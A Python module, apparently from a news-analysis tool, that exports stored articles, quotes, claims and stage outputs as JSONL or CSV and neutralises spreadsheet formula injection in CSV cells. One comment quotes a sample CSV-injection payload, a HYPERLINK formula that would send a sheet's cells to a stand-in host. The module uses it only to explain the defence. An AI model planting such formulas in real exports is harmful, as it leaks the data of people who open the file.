"""Export: the stable JSONL/CSV interface that benchmarks and outside tools read."""

from __future__ import annotations

import csv
import json
from typing import IO, TYPE_CHECKING, Any, Literal, get_args

from storyline.errors import UsageError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

    from storyline.store import Store

What = Literal[
    "articles",
    "entities",
    "quotes",
    "timexes",
    "timeline",
    "stories",
    "claims",
    "rejected",
    "changes",
    "quote_groups",
]
WHATS: tuple[str, ...] = get_args(What)
ExportFormat = Literal["jsonl", "csv"]
# ``stage:NAME`` exports what a plug-in stage stored (``stage_outputs``).
STAGE_PREFIX = "stage:"


def export_rows(store: Store, what: str) -> Iterator[dict[str, Any]]:
    """Yield the rows of one export, in a stable order.

    Every table export reads through the read model (``store.read.Reader``) the web UI and
    the API read through, so ``/api`` and the export give an object the same row.

    Raises:
        UsageError: ``what`` is not a known export.
    """
    if what.startswith(STAGE_PREFIX):
        yield from stage_rows(store, what.removeprefix(STAGE_PREFIX))
        return
    if what not in WHATS:
        choices = ", ".join((*WHATS, f"{STAGE_PREFIX}NAME"))
        raise UsageError(f"unknown export {what!r}; choose one of {choices}")
    reader = store.reader()
    reads: dict[str, Callable[[], Iterable[dict[str, Any]]]] = {
        "articles": reader.articles,
        "entities": reader.entities,
        "quotes": reader.quotes,
        "timexes": reader.timexes,
        "timeline": reader.timeline_rows,
        "stories": reader.stories,
        "claims": reader.claim_rows,
        "rejected": reader.rejected,
        "changes": reader.changes,
        # one statement by one speaker across a storyline's articles, best-reported first
        "quote_groups": reader.quote_groups,
    }
    yield from reads[what]()


def stage_rows(store: Store, name: str) -> Iterator[dict[str, Any]]:
    """Yield what a plug-in stage stored, ``{"stage", "item_id", "output"}``, by item id.

    ``name`` is the stage's full name or a built-in's label; a stage no longer registered
    still exports what it stored under its full name.

    Raises:
        UsageError: no registered stage and nothing stored has that name.
    """
    from storyline.registry import Pipeline, PipelineError  # noqa: PLC0415 - loads entry points

    try:
        name = Pipeline.load().find(name).name
    except PipelineError:
        if not any(True for _ in store.stage_outputs(name)):
            msg = f"no stage {name!r} and nothing stored by one: see `storyline stages`"
            raise UsageError(msg) from None
    for row in store.stage_outputs(name):
        yield {"stage": name, **row}


# A CSV cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets:
# a title or a speaker name like '=HYPERLINK("http://x/?"&A1, "Ferry")' sent the sheet's
# cells away, or ran a command (DDE), when a journalist opened the export (OWASP "CSV
# injection"). Such a cell gets a leading "'", which spreadsheets show as text and hide.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: Any) -> Any:  # noqa: ANN401 - any value a row holds
    """Return a CSV cell's value, a text a spreadsheet would run as a formula made inert."""
    if not isinstance(value, str) or not value.startswith(_FORMULA_STARTS):
        return value
    try:
        float(value)  # "-5" or "+1.5" is a number, no formula: kept as it is
    except ValueError:
        return "'" + value
    return value


def write_export(rows: Iterator[dict[str, Any]], out: IO[str], fmt: ExportFormat) -> int:
    """Write rows as JSONL or CSV; return how many were written.

    CSV: nested values JSON-encoded, and a text a spreadsheet would run as a formula (it
    starts with = + - @) is written with a leading "'" (JSONL keeps every value as stored).
    """
    count = 0
    if fmt == "jsonl":
        for row in rows:
            out.write(json.dumps(row, ensure_ascii=False, sort_keys=False) + "\n")
            count += 1
        return count
    writer: csv.DictWriter[str] | None = None
    for row in rows:
        flat = {
            k: json.dumps(v, ensure_ascii=False) if isinstance(v, list | dict) else _cell(v)
            for k, v in row.items()
        }
        if writer is None:
            writer = csv.DictWriter(out, fieldnames=list(flat), lineterminator="\n")
            writer.writeheader()
        writer.writerow(flat)
        count += 1
    return count
